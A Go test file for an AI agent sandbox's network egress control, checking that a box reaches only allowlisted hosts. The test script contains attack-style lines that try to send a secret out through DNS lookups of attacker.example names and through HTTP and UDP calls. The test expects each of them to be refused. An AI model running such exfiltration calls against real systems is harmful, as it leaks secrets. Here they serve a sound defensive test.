package egress

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"github.com/baton-agent/baton/internal/netpolicy"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"os/exec"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/baton-agent/baton/internal/sandbox"
)

// boxVar carries a boxSpec to the test binary started as a box: it then
// plays the box's init (its network step) instead of running tests.
const boxVar = "BATON_EGRESS_TEST_BOX"

// testSpec is what the test hands its box: the network's spec, as the
// init gets it, and what to run.
type testSpec struct {
	Net  json.RawMessage `json:"net"`
	Env  []string        `json:"env"`
	Argv []string        `json:"argv"`
}

// queryVar makes the test binary a DNS client: "server:port name" sends
// one A query over UDP and prints the answer's rcode, or "no answer".
const queryVar = "BATON_EGRESS_TEST_QUERY"

func TestMain(m *testing.M) {
	sandbox.Main(Hooks()) // the benchmarks start real boxes: this binary is their init
	if spec := os.Getenv(boxVar); spec != "" {
		os.Exit(boxMain(spec))
	}
	if q := os.Getenv(queryVar); q != "" {
		os.Exit(queryMain(q))
	}
	os.Exit(m.Run())
}

// queryMain asks the server named in q for the name in q, as a program
// with a resolver address of its own would.
func queryMain(q string) int {
	server, name, _ := strings.Cut(q, " ")
	c, err := net.Dial("udp", server)
	if err != nil {
		fmt.Println("no answer:", err)
		return 0
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(5 * time.Second))
	if _, err := c.Write(encodeQuery(42, name, typeA)); err != nil {
		fmt.Println("no answer:", err)
		return 0
	}
	buf := make([]byte, maxDNSMessage)
	n, err := c.Read(buf)
	if err != nil || n < dnsHeaderLen {
		fmt.Println("no answer:", err)
		return 0
	}
	fmt.Println("rcode", buf[3]&0xf)
	return 0
}

// boxMain is the box's init, as far as the network goes: in new user,
// network and mount namespaces, it builds the network (Init) and runs
// argv with the environment the box's process gets.
func boxMain(spec string) int {
	var s testSpec
	if err := json.Unmarshal([]byte(spec), &s); err != nil {
		fmt.Fprintln(os.Stderr, "box:", err)
		return 125
	}
	if err := unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, ""); err != nil {
		fmt.Fprintln(os.Stderr, "box: make mounts private:", err)
		return 125
	}
	stop, err := Init(s.Net, nil)
	if err != nil {
		fmt.Fprintln(os.Stderr, "box:", err)
		return 125
	}
	defer stop()
	cmd := exec.Command(s.Argv[0], s.Argv[1:]...)
	env := slices.DeleteFunc(os.Environ(), func(kv string) bool {
		k, _, _ := strings.Cut(kv, "=")
		return k == boxVar
	})
	cmd.Env = append(env, s.Env...)
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
	err = cmd.Run()
	var ee *exec.ExitError
	switch {
	case errors.As(err, &ee):
		return ee.ExitCode()
	case err != nil:
		fmt.Fprintln(os.Stderr, "box:", err)
		return 125
	}
	return 0
}

// testBox is a proxy outside and the test binary as a box that runs one
// command inside.
type testBox struct {
	allow    netpolicy.Allowlist
	resolver *net.Resolver
	list     []netpolicy.RefusalCount // what the last run's proxy refused
	mu       sync.Mutex
	live     []string
}

// run runs script with sh in a new box and returns its output and exit
// code.
func (b *testBox) run(t *testing.T, script string) (string, int) {
	t.Helper()
	nb, err := Open(b.allow, func(r netpolicy.Refusal) {
		b.mu.Lock()
		b.live = append(b.live, r.String())
		b.mu.Unlock()
	})
	if err != nil {
		t.Fatal(err)
	}
	nb.proxy.Resolver = b.resolver // before the box starts: nothing has asked yet
	defer func() {
		if err := nb.Close(); err != nil {
			t.Error(err)
		}
		b.list, _ = nb.Refusals()
	}()
	spec, _ := json.Marshal(testSpec{Net: nb.Spec(), Env: nb.Env(), Argv: []string{"sh", "-c", script}})
	cmd := exec.Command(os.Args[0], "-test.run=^$")
	cmd.Env = append(os.Environ(), boxVar+"="+string(spec))
	cmd.SysProcAttr = &syscall.SysProcAttr{
		Cloneflags:  syscall.CLONE_NEWUSER | syscall.CLONE_NEWNET | syscall.CLONE_NEWNS,
		UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}},
		GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getgid(), Size: 1}},
	}
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	err = cmd.Run()
	var ee *exec.ExitError
	switch {
	case errors.As(err, &ee):
		if ee.ExitCode() == 125 {
			t.Fatalf("the box did not start: %s", out.String())
		}
		return out.String(), ee.ExitCode()
	case errors.Is(err, syscall.EPERM) || errors.Is(err, syscall.EINVAL) || errors.Is(err, syscall.ENOSPC):
		t.Skipf("this machine makes no user and network namespaces here (%v): the box's network needs them", err)
	case err != nil:
		t.Fatal(err)
	}
	return out.String(), 0
}

// needTools skips t when a command the box runs is not installed.
func needTools(t *testing.T, names ...string) {
	t.Helper()
	for _, n := range names {
		if _, err := exec.LookPath(n); err != nil {
			t.Skipf("%s is not installed: the box runs it", n)
		}
	}
}

// serveText serves text over HTTP at addr ("127.0.0.1:0", or another
// address of this machine) and counts requests.
func serveText(t *testing.T, addr, text string) (netip.AddrPort, *int) {
	t.Helper()
	l, err := net.Listen("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	n := new(int)
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		*n++
		mu.Unlock()
		fmt.Fprint(w, text)
	}))
	srv.Listener.Close()
	srv.Listener = l
	srv.Start()
	t.Cleanup(srv.Close)
	return netip.MustParseAddrPort(l.Addr().String()), n
}

// hostAddress is an IPv4 address of this machine that is not loopback,
// where a test server stands for a host on the internet.
func hostAddress(t *testing.T) string {
	t.Helper()
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range addrs {
		if p, err := netip.ParsePrefix(a.String()); err == nil && p.Addr().Is4() && !p.Addr().IsLoopback() {
			return p.Addr().String()
		}
	}
	t.Skip("this machine has no IPv4 address besides loopback to stand for a host outside")
	return ""
}

func TestBoxReachesOnlyItsAllowlist(t *testing.T) {
	t.Parallel()
	needTools(t, "sh", "curl", "getent")
	model, _ := serveText(t, "127.0.0.1:0", "model")
	api, apiHits := serveText(t, "127.0.0.1:0", "baton-api")
	registry, _ := serveText(t, hostAddress(t)+":0", "registry")
	elsewhere, elsewhereHits := serveText(t, hostAddress(t)+":0", "elsewhere")
	byAddress, _ := serveText(t, hostAddress(t)+":0", "by address")
	upstream := map[string]string{
		"registry.example": registry.Addr().String(),
		"attacker.example": elsewhere.Addr().String(),
	}
	b := &testBox{resolver: startTestDNS(t, upstream)}
	// A resolver on this machine's loopback that the box must not reach,
	// as the machine's own (systemd-resolved's 127.0.0.53) is.
	hostResolver, resolverQueries := startCountingDNS(t)
	var err error
	b.allow, err = netpolicy.Parse(model.String(), fmt.Sprintf("registry.example:%d", registry.Port()), byAddress.String())
	if err != nil {
		t.Fatal(err)
	}
	script := fmt.Sprintf(`
try() { label=$1; shift; if out=$("$@" 2>&1); then printf '%%s: %%s\n' "$label" "$out"; else printf '%%s: refused\n' "$label"; fi; }
try model curl -sS -m 10 http://%[1]s/
try "model by proxy" curl -sS -m 10 --noproxy '' http://%[1]s/
try api curl -sS -m 10 http://%[2]s/
try "api by proxy" curl -sS -m 10 --noproxy '' -o /dev/null -w '%%{http_code}' http://%[2]s/
try "registry by name" curl -sS -m 10 --noproxy '*' http://registry.example:%[3]d/
try "registry by proxy" curl -sS -m 10 http://registry.example:%[3]d/
if command -v node >/dev/null; then
  # Node's fetch ignores the proxy variables: it finds the name by the stub.
  try "node by name" node -e "fetch('http://registry.example:%[3]d/').then(r => r.text()).then(t => console.log(t))"
  try "node attacker" node -e "fetch('http://attacker.example:%[4]d/').then(r => r.text()).then(t => console.log(t))"
fi
try "attacker by proxy" curl -sS -m 10 -o /dev/null -w '%%{http_code}' http://attacker.example:%[4]d/
try "attacker by name" curl -sS -m 10 --noproxy '*' http://attacker.example:%[4]d/
try "attacker dns" getent hosts secret-is-hunter2.attacker.example
try "attacker address" curl -sS -m 10 --noproxy '*' http://%[5]s/
try "allowed address" curl -sS -m 10 --noproxy '*' http://%[9]s/
try "query any resolver" env %[6]s="9.9.9.9:53 exfil-by-udp.attacker.example" %[7]s
try "query the machine's resolver" env %[6]s="%[8]s exfil-by-loopback.attacker.example" %[7]s
`, model, api, registry.Port(), elsewhere.Port(), elsewhere, queryVar, os.Args[0], hostResolver, byAddress)
	out, code := b.run(t, script)
	if code != 0 {
		t.Fatalf("the box's script exited %d:\n%s", code, out)
	}
	if _, err := exec.LookPath("node"); err == nil {
		for _, want := range []string{"node by name: registry\n", "node attacker: refused\n"} {
			if !strings.Contains(out, want) {
				t.Errorf("in the box: no %q in\n%s", want, out)
			}
		}
	}
	for _, want := range []string{
		"model: model\n", "model by proxy: model\n",
		"registry by name: registry\n", "registry by proxy: registry\n",
		"api by proxy: 403\n", "attacker by proxy: 403\n",
		"attacker dns: refused\n", "api: refused\n", "attacker by name: refused\n", "attacker address: refused\n",
		"allowed address: by address\n", "query any resolver: rcode 3\n", "query the machine's resolver: no answer",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("in the box: no %q in\n%s", want, out)
		}
	}
	if *apiHits != 0 || *elsewhereHits != 0 {
		t.Errorf("refused servers were reached: api %d, elsewhere %d times", *apiHits, *elsewhereHits)
	}
	if n := resolverQueries(); n != 0 {
		t.Errorf("the machine's resolver got %d queries from the box", n)
	}
	b.mu.Lock()
	if len(b.live) < len(b.list) {
		t.Errorf("the live log heard of %d refusals, the record holds %d", len(b.live), len(b.list))
	}
	b.mu.Unlock()
	var got []string
	for _, r := range b.list {
		got = append(got, r.Via+" "+r.Target())
	}
	for _, want := range []string{
		"http " + api.String(), "connect " + api.String(), fmt.Sprintf("http attacker.example:%d", elsewhere.Port()),
		"dns attacker.example", "dns secret-is-hunter2.attacker.example",
		"connect " + elsewhere.String(), "dns exfil-by-udp.attacker.example", "udp " + hostResolver,
	} {
		if !slices.Contains(got, want) {
			t.Errorf("refusals %q lack %q", got, want)
		}
	}
}

// startCountingDNS is a DNS server on a UDP port of 127.0.0.1 that
// answers nothing and counts the queries it gets.
func startCountingDNS(t *testing.T) (string, func() int) {
	t.Helper()
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	n := 0
	done := make(chan struct{})
	t.Cleanup(func() { pc.Close(); <-done })
	go func() {
		defer close(done)
		buf := make([]byte, maxDNSMessage)
		for {
			if _, _, err := pc.ReadFrom(buf); err != nil {
				return
			}
			mu.Lock()
			n++
			mu.Unlock()
		}
	}()
	return pc.LocalAddr().String(), func() int { mu.Lock(); defer mu.Unlock(); return n }
}
